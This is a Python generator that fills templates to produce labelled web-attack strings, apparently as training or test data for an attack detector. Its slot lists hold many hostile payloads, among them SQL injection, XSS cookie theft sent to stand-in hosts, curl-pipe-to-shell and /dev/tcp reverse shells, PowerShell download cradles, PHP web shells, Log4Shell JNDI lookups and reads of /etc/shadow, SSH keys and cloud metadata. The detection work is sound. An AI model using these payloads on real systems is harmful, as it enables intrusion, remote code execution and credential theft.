r"""Generated attacks of every class: what a model should recognise before the first attack is labelled.

Templates with variable parts, written from the public descriptions of each technique (OWASP Testing Guide, MITRE CAPEC-66
SQL injection, -63 XSS, -126 path traversal, -88 OS command injection, -664 SSRF, -221 XXE, -676 NoSQL injection;
CVE-2021-44228 Log4Shell; CVE-2014-6271 Shellshock). The texts are decoded values, as `decoding.decode` gives them.
"""

import random
import re
from collections.abc import Callable, Mapping
from typing import Final

Chance = random.Random


def attack_texts(count: int, seed: int) -> list[tuple[str, str]]:
    """Attacks with their class, in a mix fixed by the seed.

    Args:
        count: how many; fewer come back only when duplicates cannot be avoided.
        seed: the same seed gives the same attacks.
    """
    chance = Chance(seed)
    kinds, shares = zip(*_SHARES.items(), strict=True)
    found: dict[str, str] = {}
    for _ in range(4 * count):
        if len(found) >= count:
            break
        kind = chance.choices(kinds, shares)[0]
        found.setdefault(_attack(kind, chance), kind)
    return list(found.items())


def _attack(kind: str, chance: Chance) -> str:
    text = _fill(chance.choice(_TEMPLATES[kind]), chance)
    if kind in ("sqli", "xss", "cmd_injection") and chance.random() < 0.15:
        text = text.upper() if chance.random() < 0.5 else "".join(chance.choice((c.lower(), c.upper())) for c in text)
    return text


def _fill(template: str, chance: Chance) -> str:
    for _ in range(6):
        filled = re.sub(r"<<(\w+)>>", lambda m: _SLOTS[m[1]](chance), template)
        if filled == template:
            break
        template = filled
    return template


def _pick(*choices: str) -> Callable[[Chance], str]:
    return lambda chance: chance.choice(choices)


def _number(chance: Chance) -> str:
    return str(chance.choice([chance.randint(0, 9), chance.randint(10, 9999), chance.randint(10**4, 10**7)]))


def _same(chance: Chance) -> str:
    number = _number(chance)
    return chance.choice(
        [f"{number}={number}", f"{number} = {number}", f"'{number}'='{number}'", f"{number}<{int(number) + 1}"]
    )


def _letters(chance: Chance) -> str:
    return "".join(chance.choices("abcdefghijklmnopqrstuvwxyz", k=chance.randint(2, 7)))


def _columns(chance: Chance) -> str:
    kinds = [
        "null",
        "1",
        "<<n>>",
        "'<<w>>'",
        "@@version",
        "user()",
        "database()",
        "<<column>>",
        "<<chars>>",
        "version()",
    ]
    return ",".join(chance.choice(kinds) for _ in range(chance.randint(1, 9)))


def _chars(chance: Chance) -> str:
    codes = [chance.randint(65, 122) for _ in range(chance.randint(1, 6))]
    return chance.choice(
        [
            f"char({','.join(map(str, codes))})",
            "+".join(f"char({code})" for code in codes),
            "||".join(f"chr({code})" for code in codes),
            "0x" + "".join(f"{code:02x}" for code in codes),
        ]
    )


def _climb(chance: Chance) -> str:
    step = chance.choice(
        [
            "../",
            "../",
            "../",
            "..\\",
            "....//",
            "..;/",
            "..././",
            "/..",
            "\\..",
            ".../",
            "..//",
            "/./..",
            "%2e%2e/",
            "..%2f",
        ]
    )
    return step * chance.randint(2, 12)


_SLOTS: Final[Mapping[str, Callable[[Chance], str]]] = {
    "n": _number,
    "w": _letters,
    "same": _same,
    "columns": _columns,
    "chars": _chars,
    "climb": _climb,
    "v": _pick("", "1", "<<n>>", "-<<n>>", "<<w>>", "admin", "a", "x"),
    "q": _pick("'", "'", '"', "", "')", "'))", '")', "`", "\\'", ")", "%'", "';", "1'"),
    "end": _pick("--", "-- ", "-- -", "#", "/*", "", ";--", ";#", "--+", ";%00", " and '<<w>>'='<<w>>", " or '1'='1", "-- <<w>>"),
    "or": _pick("or", "or", "and", "||", "&&", "xor", "or not", "and not", "having", "where", "rlike", "like"),
    "s": _pick("5", "10", "<<n>>", "15", "3"),
    "column": _pick("password", "username", "table_name", "column_name", "user", "passwd", "email", "<<w>>", "pass", "login"),
    "table": _pick(
        "users", "information_schema.tables", "information_schema.columns", "mysql.user", "dual", "<<w>>", "admin",
        "sysobjects", "all_tables", "pg_shadow", "sqlite_master", "master..sysdatabases", "members", "dba_users",
    ),
    "sql": _pick(
        "select <<columns>> from <<table>>", "select <<column>> from <<table>> where <<column>>='<<w>>'",
        "select count(*) from <<table>>", "select @@version", "select sleep(<<s>>)", "select user()", "select pg_sleep(<<s>>)",
        "select <<column>> from <<table>> limit <<n>>,1", "select concat(<<column>>,0x3a,<<column>>) from <<table>>",
        "select 1 from(select count(*),concat(<<chars>>,floor(rand(0)*2))x from <<table>> group by x)a",
        "select case when (<<same>>) then <<n>> else <<n>>*(select <<n>> from <<table>>) end",
        "select banner from v$version where rownum=1", "select top 1 name from sysobjects where xtype=char(85)",
    ),
    "delay": _pick(
        "sleep(<<s>>)", "benchmark(<<n>>000000,md5(1))", "pg_sleep(<<s>>)", "waitfor delay '0:0:<<s>>'",
        "dbms_pipe.receive_message('<<w>>',<<s>>)", "(select(0)from(select(sleep(<<s>>)))v)",
        "benchmark(<<n>>,sha1('<<w>>'))", "randomblob(<<n>>00000000)", "dbms_lock.sleep(<<s>>)",
    ),
    "error": _pick(
        "extractvalue(<<n>>,concat(0x7e,(<<sql>>)))", "updatexml(1,concat(0x7e,(<<sql>>),0x7e),1)",
        "convert(int,(<<sql>>))", "cast((<<sql>>) as int)", "ctxsys.drithsx.sn(1,(<<sql>>))", "exp(~(<<sql>>))",
        "utl_inaddr.get_host_address((<<sql>>))", "json_keys((<<sql>>))", "ord(mid((<<sql>>),<<n>>,1))><<n>>",
        "ascii(substring((<<sql>>),<<n>>,1))=<<n>>", "length((<<sql>>))><<n>>", "(<<sql>>)='<<w>>'",
        "elt(<<same>>,<<n>>)", "make_set(<<same>>,<<n>>)", "substr(user(),1,1)='a'", "left(version(),1)=<<n>>",
        "row(<<n>>,<<n>>)>(<<sql>>)", "exists(<<sql>>)", "<<n>> in (<<sql>>)", "<<column>> is not null", "<<chars>>=<<chars>>",
    ),
    "js": _pick(
        "alert(1)", "alert('xss')", "alert(<<n>>)", "alert(document.cookie)", "confirm(1)", "prompt(/xss/)", "alert`1`",
        "document.location='http://<<host>>/?c='+document.cookie", "fetch('//<<host>>/'+document.cookie)",
        "eval(atob('YWxlcnQoMSk='))", "window['alert'](1)", "top['al'+'ert'](1)", "eval(name)", "print()", "a=alert;a(1)",
        "String.fromCharCode(88,83,83)", "alert(String.fromCharCode(<<n>>,83,83))", "new Image().src='//<<host>>/'+document.cookie",
        "self[/*<<w>>*/'alert'](1)", "import('//<<host>>')", "setTimeout('alert(1)')", "[].constructor.constructor('alert(1)')()",
        "document.write('<<w>>')", "$.getScript('//<<host>>')", "throw onerror=alert,1", "javascript:alert(1)", "parent.alert(1)",
    ),
    "event": _pick(
        "onerror", "onload", "onclick", "onmouseover", "onfocus", "onblur", "ontoggle", "onstart", "onbegin", "onwheel",
        "onanimationstart", "onpointerenter", "onpageshow", "onkeyup", "onresize", "onscroll", "oninput", "onpaste", "on<<w>>",
    ),
    "tag": _pick(
        "img", "svg", "body", "iframe", "video", "audio", "details", "input", "a", "div", "marquee", "math", "object",
        "embed", "select", "textarea", "style", "table", "form", "button", "image", "keygen", "<<w>>",
    ),
    "gap": _pick(" ", " ", "/", "\t", "\n", "//", "  "),
    "host": _pick("<<w>>.com", "evil.<<w>>.net", "127.0.0.1", "10.0.0.<<n>>", "<<w>>.<<w>>.io:<<n>>", "attacker.example", "[::1]"),
    "file": _pick(
        "etc/passwd", "etc/shadow", "etc/hosts", "etc/issue", "proc/self/environ", "windows/win.ini", "boot.ini",
        "windows\\system32\\drivers\\etc\\hosts", "etc/group", "var/log/apache2/access.log", "root/.ssh/id_rsa",
        "WEB-INF/web.xml", "etc/passwd%00", "etc/passwd.jpg", "proc/self/cmdline", "winnt/win.ini",
        "etc/apache2/apache2.conf", "inetpub/wwwroot/web.config", "var/www/html/config.php", "wp-config.php", ".env", "etc/mtab",
    ),
    "sh": _pick(
        "id", "whoami", "ls -la", "ls", "cat /etc/passwd", "cat /etc/shadow", "uname -a", "ping -c <<s>> <<host>>", "sleep <<s>>",
        "wget http://<<host>>/<<w>>", "curl http://<<host>>/<<w>>.sh|sh", "nc -e /bin/sh <<host>> <<n>>", "echo <<w>>",
        "nslookup <<host>>", "/bin/bash -i >& /dev/tcp/<<host>>/<<n>> 0>&1", "python -c 'import os;os.system(\"id\")'",
        "perl -e 'print <<n>>'", "ifconfig", "ipconfig /all", "dir c:\\", "type c:\\boot.ini", "net user", "netstat -an", "ps aux",
        "/usr/bin/id", "/bin/cat /etc/passwd", "rm -rf /tmp/<<w>>", "powershell -enc <<w>>", "cmd /c dir", "ping -n <<s>> 127.0.0.1",
        "echo <<w>>$((<<n>>+<<n>>))", "expr <<n>> + <<n>>", "set", "env", "printenv", "systeminfo", "chmod 777 /tmp/<<w>>",
        "tail /etc/passwd", "head -n 1 /etc/group", "busybox id", "dig <<w>>.<<host>>", "touch /tmp/<<w>>", "uptime", "pwd",
        "phpinfo()", "certutil -urlcache -f http://<<host>>/a.exe a.exe", "which curl", "ls /", "dir", "hostname", "cat<<blank>>/etc/passwd",
    ),
    "blank": _pick("${IFS}", "$IFS", "$IFS$9", "\t", "<", "+", "%20"),
    "sep": _pick(";", "|", "||", "&", "&&", "\n", "; ", " | ", " && ", "`", "$(", "\r\n", "%0a", "|&", ";;", "'; ", '"; ', "');", "& "),
    "after": _pick("", "", "", ";", "|", "#", " #", "`", ")", " &", "&", "'", '"', "\n", "|| <<w>>", "; echo <<w>>"),
    "lookup": _pick(
        "jndi", "${lower:j}ndi", "${lower:j}${lower:n}${lower:d}i", "${::-j}${::-n}${::-d}${::-i}", "j${::-n}di",
        "${env:<<w>>:-j}ndi", "${upper:j}ndi", "jn${lower:d}i", "${env:BARFOO:-j}ndi${env:BARFOO:-:}", "j${k8s:k5:-n}di",
    ),
    "scheme": _pick("ldap", "ldaps", "rmi", "dns", "iiop", "corba", "nds", "http", "${lower:l}dap", "l${::-d}ap", "${lower:r}mi"),
    "inner": _pick(
        "169.254.169.254/latest/meta-data/", "127.0.0.1:<<n>>", "localhost:<<n>>/<<w>>", "[::1]:80/", "0.0.0.0:<<n>>/",
        "metadata.google.internal/computeMetadata/v1/", "2130706433/", "0x7f000001/", "10.0.0.<<n>>:8080/admin", "127.1:22",
        "169.254.169.254/latest/meta-data/iam/security-credentials/", "192.168.0.1/", "kubernetes.default.svc/api", "localhost/server-status",
        "127.0.0.1.nip.io/", "100.100.100.200/latest/meta-data/", "0177.0.0.1/", "localtest.me:<<n>>/", "[::ffff:127.0.0.1]/",
    ),
    "object": _pick(
        "''.__class__.__mro__[1].__subclasses__()", "config.__class__.__init__.__globals__['os'].popen('<<sh>>').read()",
        "self._TemplateReference__context.cycler.__init__.__globals__.os.popen('<<sh>>').read()", "request.application.__globals__",
        "lipsum.__globals__['os'].popen('<<sh>>').read()", "config.items()", "<<n>>*<<n>>", "7*7", "7*'7'", "<<n>>+<<n>>",
        "[].__class__.__base__.__subclasses__()[<<n>>]", "\"<<w>>\".getClass().forName(\"java.lang.Runtime\")",
        "T(java.lang.Runtime).getRuntime().exec('<<sh>>')", "_self.env.registerUndefinedFilterCallback('exec')",
        "constructor.constructor('<<js>>')()", "request|attr('__class__')", "dump(app)", "system('<<sh>>')", "`<<sh>>`", "settings.SECRET_KEY",
    ),
}  # fmt: skip

_TEMPLATES: Final[Mapping[str, tuple[str, ...]]] = {
    "sqli": (
        "<<v>><<q>> <<or>> <<same>><<end>>", "<<v>><<q>> or <<same>><<end>>", "<<v>><<q>> and <<same>><<end>>",
        "<<v>><<q>> or '<<w>>'='<<w>>", "' or ''='", "<<v>>' or 'a'='a", "<<v>>'||'1'='1", "<<v>><<q>> or <<n>>=<<n>>",
        "<<v>><<q>> union select <<columns>><<end>>", "<<v>><<q>> union all select <<columns>> from <<table>><<end>>",
        "union select <<columns>>", "union all select <<columns>> from <<table>> where <<same>>", "<<v>><<q>> union <<sql>><<end>>",
        "<<v>><<q>>; drop table <<table>><<end>>", "<<v>><<q>>;<<sql>><<end>>", "<<v>><<q>>; insert into <<table>> values (<<columns>>)<<end>>",
        "<<v>><<q>>; update <<table>> set <<column>>='<<w>>'<<end>>", "<<v>><<q>>; exec master..xp_cmdshell '<<sh>>'<<end>>",
        "<<v>><<q>>; exec sp_executesql N'<<sql>>'<<end>>", "<<v>><<q>>; shutdown<<end>>", "<<v>><<q>>; declare @a varchar(<<n>>)<<end>>",
        "<<v>><<q>> and <<delay>><<end>>", "<<v>><<q>> or <<delay>><<end>>", "<<v>><<q>>; <<delay>><<end>>", "<<delay>>", "<<delay>><<end>>",
        "<<v>><<q>>;waitfor delay '0:0:<<s>>'<<end>>", "<<v>><<q>> and if(<<same>>,<<delay>>,<<n>>)<<end>>", "<<v>><<q>> or <<n>>=<<delay>><<end>>",
        "<<v>><<q>>;select pg_sleep(<<s>>)<<end>>", "<<v>><<q>> and <<error>><<end>>", "<<v>><<q>> or <<error>><<end>>", "<<v>><<q>> <<or>> <<error>><<end>>",
        "<<v>>,<<error>>", "(select <<columns>>)", "(<<sql>>)", "<<v>><<q>> order by <<n>><<end>>", "<<v>><<q>> group by <<column>> having <<same>><<end>>",
        "<<v>><<q>> having <<same>><<end>>", "<<v>><<q>> limit <<n>> into outfile '/var/www/<<w>>.php'<<end>>", "<<v>>' --", "<<v>>'#", "<<v>>'/*", "<<w>>' -- -",
        "<<v>><<q>> procedure analyse(extractvalue(<<n>>,concat(<<chars>>,<<sql>>)),1)<<end>>", "<<v>><<q>> where <<same>> and <<error>><<end>>",
        "<<v>><<q>> as <<w>> where <<same>> or <<error>><<end>>", "<<v>><<q>> rlike (<<sql>>)<<end>>", "case when <<same>> then <<n>> else <<n>> end",
        "iif(<<same>>,<<n>>,<<n>>)", "if(<<same>>,<<delay>>,<<n>>)", "<<v>>'||(<<sql>>)||'", "<<v>>'+(<<sql>>)+'", "<<v>>\"||(<<sql>>)||\"", "<<sql>>",
        "1;<<sql>>--", "<<v>>') or <<same>> -- ", "<<v>>' and (select <<n>> from (<<sql>>) <<w>>) and '<<w>>'='<<w>>", "<<v>>' like '%", "load_file('/etc/passwd')",
        "<<v>><<q>> and <<n>>=(<<sql>>)<<end>>", "<<v>>%' and <<error>> and '%'='", "'; begin <<delay>>; end<<end>>", "<<chars>>||<<chars>>=regexp_substring(repeat(<<chars>>,<<n>>),null)",
        "<<v>>/**/union/**/select/**/<<columns>>", "<<v>>'/**/or/**/<<same>>#", "1 or true--", "<<n>> or 1#", "'=0--+", "'-'", "'*'", "' or 1 or '", "admin'--", "admin' or '1'='1",
    ),
    "xss": (
        "<script><<js>></script>", "\"><script><<js>></script>", "'><script><<js>></script>", "</<<tag>>><script><<js>></script>", "<script src=//<<host>>></script>",
        "<script>\n<<js>>\n</script>", "<script/x><<js>></script>", "<script src=\"http://<<host>>/<<w>>.js\"></script>", "<scr<script>ipt><<js>></scr</script>ipt>",
        "<<<tag>><<gap>><<event>>=<<js>>>", "<<<tag>><<gap>>src=x <<event>>=<<js>>>", "\"><<<tag>><<gap>><<event>>=<<js>>>", "<<v>>'><<<tag>><<gap>>src=<<w>> <<event>>=\"<<js>>\">",
        "<<<tag>><<gap>><<event>>='<<js>>'>", "<<<tag>> src=\"javascript:<<js>>\">", "<a href=\"javascript:<<js>>\"><<w>></a>", "<a href=javascript:<<js>>>", "javascript:<<js>>",
        "<iframe src=\"javascript:<<js>>\"></iframe>", "<iframe srcdoc='<script><<js>></script>'>", "<object data=\"data:text/html;base64,PHNjcmlwdD4=\"></object>",
        "<svg><script><<js>></script></svg>", "<svg/onload=<<js>>>", "<svg><animate onbegin=<<js>> attributeName=x>", "<math><a xlink:href=javascript:<<js>>><<w>>",
        "<body <<event>>=<<js>>>", "<input autofocus onfocus=<<js>>>", "<details open ontoggle=<<js>>>", "<style>@import 'javascript:<<js>>';</style>", "<meta http-equiv=refresh content='0;url=javascript:<<js>>'>",
        "\" <<event>>=\"<<js>>", "' <<event>>='<<js>>", "\" autofocus <<event>>=<<js>> x=\"", "' style='x:expression(<<js>>)", "<div style=\"background:url(javascript:<<js>>)\">", "<div style=\"width:expression(<<js>>)\">",
        "';<<js>>//", "\";<<js>>;//", "</script><script><<js>></script>", "'-<<js>>-'", "\"-<<js>>-\"", "\\';<<js>>;//", "${<<js>>}", "{{constructor.constructor('<<js>>')()}}", "`;<<js>>;`",
        "<embed src=javascript:<<js>>>", "<form action=javascript:<<js>>><input type=submit>", "<button formaction=javascript:<<js>>><<w>>", "<<w>><img src=x onerror=<<js>>>", "<img src=`x` onerror=<<js>>>",
        "<img/src/onerror=<<js>>>", "<video><source onerror=\"<<js>>\"></video>", "<xss <<event>>=<<js>> style=display:block>", "<base href=\"javascript:/\">", "vbscript:msgbox(1)", "data:text/html,<script><<js>></script>",
        "<table background=\"javascript:<<js>>\">", "<link rel=stylesheet href=\"javascript:<<js>>\">", "<xml id=x><a><b><script><<js>></script></b></a></xml>", "<!--<img src=\"--><img src=x onerror=<<js>>//\">", "<noscript><p title=\"</noscript><img src=x onerror=<<js>>>\">",
        "<isindex type=image src=1 onerror=<<js>>>", "&<script><<js>></script>", "<img lowsrc=\"javascript:<<js>>\">", "<bgsound src=\"javascript:<<js>>\">", "<marquee onstart=<<js>>>", "%3cscript%3e<<js>>%3c/script%3e", "<script><<js>>", "<script>", "onerror=<<js>>", "<img src=x:<<js>>>",
    ),
    "path_traversal": (
        "<<climb>><<file>>", "<<climb>><<file>>", "/<<climb>><<file>>", "<<w>>/<<climb>><<file>>", "<<w>>.php?f=<<climb>><<file>>", "/<<file>>", "c:\\<<file>>", "c:/<<file>>", "file:///<<file>>",
        "<<climb>><<w>>", "<<climb>><<w>>.php", "/<<climb>><<file>>%00", "<<climb>><<file>>\\0.jpg", "php://filter/convert.base64-encode/resource=<<file>>", "php://filter/read=string.rot13/resource=<<w>>.php", "zip://<<w>>.zip#<<w>>.php", "phar://<<w>>.phar/<<w>>",
        "/static/<<climb>><<file>>", "/images/<<climb>><<file>>", "/cgi-bin/<<climb>><<file>>", "\\\\<<host>>\\<<w>>\\<<w>>.txt", "/var/www/<<climb>><<file>>", "<<w>>/<<climb>><<w>>.<<w>>", "/etc/passwd", "../../<<file>>", "..\\..\\<<file>>", "/..%c0%af<<climb>><<file>>", "expect://<<sh>>", "%SYSTEMROOT%\\<<file>>", "~/.ssh/id_rsa", "..", "../", "../<<w>>",
    ),
    "cmd_injection": (
        "<<v>><<sep>><<sh>><<after>>", "<<v>><<sep>><<sh>><<after>>", "<<v>><<sep>><<sh>><<after>>", "<<sep>><<sh>><<after>>", "$(<<sh>>)", "`<<sh>>`", "<<v>>`<<sh>>`", "<<v>>$(<<sh>>)", "<<v>>'<<sep>><<sh>> #", "<<v>>\"<<sep>><<sh>><<sep>>\"", "<<v>>)<<sep>><<sh>>", "<<v>>;<<sh>>;", "<<v>>|<<sh>>|", "| <<sh>>", "; <<sh>>", "&& <<sh>>", "& <<sh>> &",
        "<<sh>> > /tmp/<<w>>", ";system('<<sh>>')", "system('<<sh>>');", "<?php system($_GET['<<w>>']); ?>", "<?php echo `<<sh>>`; ?>", "eval('<<sh>>');", "';phpinfo();//", "${@print(md5(<<n>>))}", "{${phpinfo()}}", "\".system('<<sh>>').\"", "'.exec('<<sh>>').'", "<!--#exec cmd=\"<<sh>>\"-->", "assert(\"<<sh>>\")", "passthru('<<sh>>')", "shell_exec('<<sh>>')", ";exec('<<sh>>')",
        "__import__('os').system('<<sh>>')", "os.system('<<sh>>')", "exec(\"import os;os.system('<<sh>>')\")", "require('child_process').exec('<<sh>>')", "java.lang.Runtime.getRuntime().exec('<<sh>>')", "%{(#_='multipart/form-data').(#cmd='<<sh>>')}", "${script:javascript:java.lang.Runtime.getRuntime().exec('<<sh>>')}", "%0a<<sh>>", "<<v>>||<<sh>>||", "ls -l /", "ls -l /tmp", "ls -la /<<w>>", "ipconfig /all", "net view", "net user <<w>>", "ping -c <<s>> <<host>>", "\\nid\\n", "cat /etc/<<w>>", "id;", "|id", ";id", "&id", "{cat,/etc/passwd}", "c'a't /etc/passwd", "/???/c?t /e??/p?sswd", "/bin/sh -c '<<sh>>'", "<<v>>& echo <<w>>$((<<n>>+<<n>>))$(echo <<w>>)<<w>>", "cmd.exe /c <<sh>>", "/bin/<<sh>>", "cat /etc/passwd", "wget http://<<host>>/<<w>>.sh -O- | sh", "powershell IEX(New-Object Net.WebClient).DownloadString('http://<<host>>/a')",
    ),
    "ssrf": ("http://<<inner>>", "https://<<inner>>", "http://<<inner>><<w>>", "gopher://<<inner>>_<<w>>", "dict://<<inner>>", "http://<<w>>@<<inner>>", "ftp://<<inner>>", "ldap://<<inner>>", "tftp://<<inner>>", "http://<<w>>#@<<inner>>", "jar:http://<<inner>>!/", "netdoc:///etc/passwd", "file:///etc/passwd", "gopher://127.0.0.1:6379/_SET <<w>> <<n>>", "//<<inner>>"),
    "ssti": ("{{<<object>>}}", "{{ <<object>> }}", "${<<object>>}", "#{<<object>>}", "<%= <<object>> %>", "{%<<w>> <<object>>%}", "*{<<object>>}", "{{<<object>>|safe}}", "{% for x in <<object>> %}{{x}}{% endfor %}", "<#assign ex='freemarker.template.utility.Execute'?new()>${ex('<<sh>>')}", "#set($x='')#set($rt=$x.class.forName('java.lang.Runtime'))", "{php}<<object>>{/php}", "@(<<n>>+<<n>>)", "${{<<object>>}}", "<<v>>{{<<object>>}}", "{{=<<object>>}}", "[[${<<object>>}]]", "__${<<object>>}__::.x"),
    "xxe": (
        "<?xml version=\"1.0\"?><!DOCTYPE <<w>> [<!ENTITY <<w>> SYSTEM \"file:///<<file>>\">]><<<w>>>&<<w>>;</<<w>>>", "<!DOCTYPE <<w>> [<!ENTITY % <<w>> SYSTEM \"http://<<host>>/<<w>>.dtd\"> %<<w>>;]>", "<!DOCTYPE <<w>> SYSTEM \"http://<<host>>/<<w>>.dtd\">", "<?xml version=\"1.0\" encoding=\"UTF-8\"?><!DOCTYPE <<w>> [<!ELEMENT <<w>> ANY><!ENTITY xxe SYSTEM \"http://<<inner>>\">]><<<w>>>&xxe;</<<w>>>", "<!ENTITY <<w>> SYSTEM \"php://filter/convert.base64-encode/resource=<<file>>\">", "<foo xmlns:xi=\"http://www.w3.org/2001/XInclude\"><xi:include parse=\"text\" href=\"file:///<<file>>\"/></foo>", "<!DOCTYPE lolz [<!ENTITY lol \"lol\"><!ENTITY lol2 \"&lol;&lol;&lol;\">]><lolz>&lol2;</lolz>", "<soap:Body><foo><![CDATA[<!DOCTYPE doc [<!ENTITY % dtd SYSTEM \"http://<<host>>/\"> %dtd;]><<<w>>/>]]></foo></soap:Body>", "<?xml version=\"1.0\"?><!DOCTYPE <<w>> PUBLIC \"-//<<w>>//EN\" \"http://<<host>>/<<w>>.dtd\"><<<w>>/>", "<svg xmlns=\"http://www.w3.org/2000/svg\"><!DOCTYPE svg [<!ENTITY x SYSTEM \"file:///<<file>>\">]><text>&x;</text></svg>",
    ),
    "log4shell": ("${<<lookup>>:<<scheme>>://<<host>>/<<w>>}", "${<<lookup>>:<<scheme>>://<<host>>:<<n>>/<<w>>}", "<<w>>${<<lookup>>:<<scheme>>://<<host>>/<<w>>}", "${<<lookup>>:<<scheme>>://${env:<<w>>}.<<host>>/<<w>>}", "${<<lookup>>:<<scheme>>:${::-/}/<<host>>/<<w>>}", "${${lower:<<lookup>>}:<<scheme>>://<<host>>/<<w>>}", "${jndi:dns://<<host>>}", "${jndi:ldap://127.0.0.1#<<host>>/<<w>>}", "${ctx:<<w>>}", "${env:AWS_SECRET_ACCESS_KEY}"),
    "nosqli": ("<<w>>[$ne]=<<w>>", "<<w>>[$gt]=", "<<w>>[$regex]=.*", "<<w>>[$in][]=admin", "<<w>>[$exists]=true", "<<w>>[$nin][]=<<w>>", "{\"$ne\": null}", "{\"$gt\": \"\"}", "{\"$regex\": \"^<<w>>\"}", "{\"$where\": \"sleep(<<s>>000)\"}", "{\"$or\": [{}, {\"<<w>>\": \"<<w>>\"}]}", "'; return true; var <<w>>='", "' || '1'=='1", "' && this.<<column>>.match(/.*/)//", "$where: this.<<column>> == '<<w>>' || '1'=='1'", "1; sleep(<<s>>000)", "{$gt: ''}", "$ne: <<w>>", "$gt: ", "$where: 1==1", "'});db.<<w>>.drop();//", "db.<<w>>.find({$where: function(){return 1}})", "this.<<column>>=='<<w>>' || true", "{\"username\": {\"$ne\": \"<<w>>\"}, \"password\": {\"$ne\": \"<<w>>\"}}", "[$ne]=1"),
    "header_injection": ("<<w>>\r\nSet-Cookie: <<w>>=<<w>>", "<<w>>\r\nLocation: http://<<host>>/", "<<w>>\r\n\r\n<script><<js>></script>", "\r\nX-<<w>>: <<w>>", "<<w>>\nContent-Length: 0\n\nHTTP/1.1 200 OK", "<<w>>%0d%0aSet-Cookie:<<w>>=<<n>>", "http://<<host>>\r\nHost: <<host>>", "<<w>>@<<w>>.com\r\nBcc: <<w>>@<<host>>", "/<<w>>\r\nX-Forwarded-Host: <<host>>", "<<w>>\r\nContent-Type: text/html\r\n\r\n<<w>>", "\nSet-Cookie:<<w>>=<<w>>"),
    "shellshock": ("() { :; }; <<sh>>", "() { :;}; /bin/bash -c '<<sh>>'", "() { _; } >_[$($())] { <<sh>>; }", "() {:;}; <<sh>>", "() { ignored; }; echo Content-Type: text/html; echo ; <<sh>>", "() { <<w>>; }; <<sh>>", "() { (a)=>\\' <<sh>>", "(){ :;}; echo; <<sh>>", "() { x() { _; }; <<sh>>; }", "() { function <<w>> a>\\ bash -c <<sh>>", "() { <<w>> <<w>>; } <<sh>>"),
    "scanner": ("/.git/config", "/.git/HEAD", "/.env", "/.svn/entries", "/wp-login.php.bak", "/phpmyadmin/scripts/setup.php", "/<<w>>.php.bak", "/backup.sql", "/dump.sql.gz", "/server-status", "/cgi-bin/test.cgi", "/.aws/credentials", "/.htpasswd", "/web.config.old", "/config.php~", "/actuator/heapdump", "/solr/admin/info/system", "/manager/html", "/HNAP1/", "/boaform/admin/formLogin", "/.DS_Store", "/vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php", "/_ignition/execute-solution", "/.well-known/../.env", "/id_rsa", "/etc/passwd", "sqlmap/1.<<n>>#stable (https://sqlmap.org)", "Mozilla/5.00 (Nikto/2.1.6) (Evasions:None) (Test:<<n>>)", "Nikto/2.<<n>>", "masscan/1.<<n>>", "Mozilla/5.0 zgrab/0.x", "DirBuster-1.0-RC1 (http://www.owasp.org)", "Nmap Scripting Engine; https://nmap.org/book/nse.html", "w3af.org", "Acunetix-Product: WVS/<<n>>", "/nmaplowercheck<<n>>", "/Trace.axd", "/elmah.axd", "/wp-content/debug.log", "/<<w>>.zip.old", "/.vscode/sftp.json", "/CVS/Root", "/xmlrpc.php?rsd", "gobuster/3.<<n>>", "Wfuzz/2.<<n>>", "Fuzz Faster U Fool v<<n>>", "nuclei - Open-source project", "/_vti_bin/shtml.exe", "/msadc/msadcs.dll", "/iisadmpwd/aexp<<n>>.htr", "/scripts/root.exe?/c+dir"),
    "other": (
        "*)(uid=*))(|(uid=*", "*)(&(objectClass=*)", "admin)(&)", "*)(<<w>>=*)", "' or count(/<<w>>)=1 or ''='", "'] | //user/*[contains(*,'", "or position()=1", "x' or name()='username' or 'x'='y", "O:<<n>>:\"<<w>>\":1:{s:4:\"<<w>>\";s:3:\"<<w>>\";}", "rO0ABXNyABdqYXZhLnV0aWwu<<w>>", "%{#context['com.opensymphony.xwork2.dispatcher.HttpServletResponse']}", "${#rt=@java.lang.Runtime@getRuntime()}", "class.module.classLoader.resources.context.parent.pipeline.first.pattern=<<w>>", "redirect:${#a=(new java.lang.ProcessBuilder(new String[]{'<<sh>>'})).start()}", "__proto__[<<w>>]=<<w>>", "constructor[prototype][<<w>>]=<<w>>", "{\"__proto__\": {\"<<w>>\": true}}", "<%@ page import=\"java.io.*\" %>", "<% Runtime.getRuntime().exec(request.getParameter(\"<<w>>\")); %>", "<esi:include src=\"http://<<host>>/\"/>", "<?php eval(base64_decode('<<w>>'));?>", "<?php @eval($_POST['<<w>>']);?>", "<cfexecute name=\"<<sh>>\">", "http://<<host>>/<<w>>.txt?", "%s%s%s%s%n%n%n", "%x%x%x%x", "=cmd|' /C calc'!A0", "=HYPERLINK(\"http://<<host>>\")", "@SUM(1+1)*cmd|' /C calc'!A0",
    ),
}  # fmt: skip

_SHARES: Final[Mapping[str, int]] = {
    "sqli": 30,
    "xss": 24,
    "path_traversal": 9,
    "cmd_injection": 18,
    "ssrf": 3,
    "ssti": 4,
    "xxe": 2,
    "log4shell": 3,
    "nosqli": 3,
    "header_injection": 2,
    "shellshock": 1,
    "scanner": 2,
    "other": 2,
}
